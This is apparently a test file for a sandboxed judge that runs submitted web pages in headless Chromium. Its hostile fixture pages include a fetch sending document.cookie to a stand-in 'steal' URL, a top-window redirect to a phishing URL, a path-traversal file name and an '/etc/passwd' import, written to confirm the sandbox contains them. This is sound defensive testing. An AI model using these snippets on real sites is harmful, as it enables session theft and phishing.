/**
 * Front-end judging for real: headless Chromium inside the bubblewrap sandbox, on the catalogue's tally-counter
 * package. Besides right and wrong pages, hostile pages (network, endless loop, top navigation, cookies) must each
 * end with a verdict and leave nothing behind.
 */
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { beforeAll, describe, expect, it } from 'vitest';
import { readPackageDir } from '../package/read-package.ts';
import type { ProblemPackage } from '../package/types.ts';
import { createSandbox } from '../sandbox/bwrap-sandbox.ts';
import { requireSandbox, skipSandboxTests } from '../sandbox/test-support.ts';
import { FrontendProblemError, judgeFrontendSubmission } from './judge-frontend-submission.ts';

const CATALOGUE = fileURLToPath(new URL('../../../../content/problems/', import.meta.url));
const sandbox = createSandbox();
let pkg: ProblemPackage;

const PAGE = (body: string, script: string) => ({
  'index.html': `<!doctype html><html lang="en"><head><title>t</title></head><body>${body}<script src="script.js"></script></body></html>`,
  'script.js': script,
});
const COUNTER_BODY = '<p id="count">0</p><button id="add">Add one</button><button id="reset">Reset</button>';
const COUNTER_JS = `let n = 0; const c = document.getElementById('count');
document.getElementById('add').onclick = () => { n++; c.textContent = n; };
document.getElementById('reset').onclick = () => { n = 0; c.textContent = n; };`;

/** A browser run of several tests; a page stuck in a loop costs its CPU time plus a browser restart per test. */
const BROWSER_TEST_MS = 300_000;

const judge = (files: Record<string, string>) => judgeFrontendSubmission({ pkg, files, sandbox });

describe.skipIf(skipSandboxTests)('judgeFrontendSubmission', { timeout: BROWSER_TEST_MS }, () => {
  beforeAll(async () => {
    requireSandbox();
    pkg = await readPackageDir(path.join(CATALOGUE, 'tally-counter-button'));
  });

  it('accepts a page that passes every hidden test, with a result per test', async () => {
    const result = await judge(PAGE(COUNTER_BODY, COUNTER_JS));
    expect(result.verdict).toBe('CORRECT_ANSWER');
    expect(result.cases.map((c) => c.status)).toEqual(['MATCH', 'MATCH', 'MATCH', 'MATCH']);
    expect(result.percentageScore).toBe(100);
  });

  it('gives a wrong answer with the failing test and the page console', async () => {
    const result = await judge(
      PAGE(
        COUNTER_BODY,
        `console.log('hello from the page'); ${COUNTER_JS.replace('n = 0; c.textContent = n; };', 'n = 1; c.textContent = n; };')}`,
      ),
    );
    expect(result.verdict).toBe('WRONG_ANSWER');
    expect(result.cases.at(-1)?.status).toBe('NO_MATCH');
    expect(result.noOfTestCasesCorrect).toBe(3);
    expect(result.console.join('\n')).toContain('hello from the page');
    // Every test keeps its own console, for the stored submission.
    expect(result.consoles).toHaveLength(4);
    for (const logged of result.consoles) expect(logged).toContain('[log] hello from the page');
  });

  it('keeps a bounded console per test when the page logs without end', async () => {
    const result = await judge(
      PAGE(
        COUNTER_BODY,
        `for (let i = 0; i < 500; i++) console.log(i + ' ' + 'x'.repeat(5000)); ${COUNTER_JS}`,
      ),
    );
    expect(result.verdict).toBe('CORRECT_ANSWER');
    for (const logged of result.consoles) {
      expect(logged.length).toBe(50);
      expect(Math.max(...logged.map((line) => line.length))).toBe(500);
    }
  });

  it('refuses files the problem does not have', async () => {
    await expect(judge({ 'evil.php': '<?php' })).rejects.toBeInstanceOf(FrontendProblemError);
    await expect(judge({ '../index.html': 'x' })).rejects.toBeInstanceOf(FrontendProblemError);
  });

  it('contains an endless loop: time limit exceeded, and the next tests still run', async () => {
    const result = await judge(
      PAGE(
        COUNTER_BODY,
        `${COUNTER_JS} document.getElementById('add').addEventListener('click', () => { for (;;); });`,
      ),
    );
    expect(result.verdict).toBe('TIME_LIMIT_EXCEEDED');
    // Test 1 only reads the page; test 3 reads labels: both pass around the stuck clicks.
    expect(result.cases[0]?.status).toBe('MATCH');
    expect(result.cases[1]?.status).toBe('TO');
    expect(result.cases[2]?.status).toBe('MATCH');
  });

  it('contains network access: a fetch to the internet fails and the page is judged as it stands', async () => {
    const result = await judge(
      PAGE(
        COUNTER_BODY,
        `${COUNTER_JS}
fetch('https://example.com/steal?c=' + document.cookie).then(() => console.log('NETWORK REACHED'), (e) => console.log('fetch failed: ' + e.message));
new Image().src = 'http://10.0.0.1/x.png';`,
      ),
    );
    expect(result.verdict).toBe('CORRECT_ANSWER');
    expect(result.console.join('\n')).toContain('fetch failed');
    expect(result.console.join('\n')).not.toContain('NETWORK REACHED');
  });

  it('contains window.top navigation and cookie reads: the page only loses its own tests', async () => {
    const result = await judge(
      PAGE(
        COUNTER_BODY,
        `console.log('cookies: [' + document.cookie + ']');
window.top.location.href = 'https://example.com/phish';`,
      ),
    );
    expect(result.verdict).toBe('WRONG_ANSWER');
    expect(result.console.join('\n')).toContain('cookies: []');
  });
});

describe.skipIf(skipSandboxTests)(
  'judgeFrontendSubmission on a React problem',
  { timeout: BROWSER_TEST_MS },
  () => {
    let react: ProblemPackage;
    beforeAll(async () => {
      requireSandbox();
      react = await readPackageDir(path.join(CATALOGUE, 'greenhouse-temperature-converter'));
    });

    it('gives a compilation error with the file and line when the JSX does not build', async () => {
      const result = await judgeFrontendSubmission({
        pkg: react,
        files: { 'App.jsx': 'export default function App() {\n  return <main><h1>Oops</main>;\n}\n' },
        sandbox,
      });
      expect(result.verdict).toBe('COMPILATION_ERROR');
      expect(result.errorMessage).toMatch(/^App\.jsx:2: /);
    });

    it('refuses imports other than React at build time (no file system, no other packages)', async () => {
      const result = await judgeFrontendSubmission({
        pkg: react,
        files: {
          'App.jsx': "import fs from 'fs';\nimport secret from '/etc/passwd';\nexport default () => null;\n",
        },
        sandbox,
      });
      expect(result.verdict).toBe('COMPILATION_ERROR');
      expect(result.errorMessage).toContain('only react and react-dom are available');
    });
  },
);
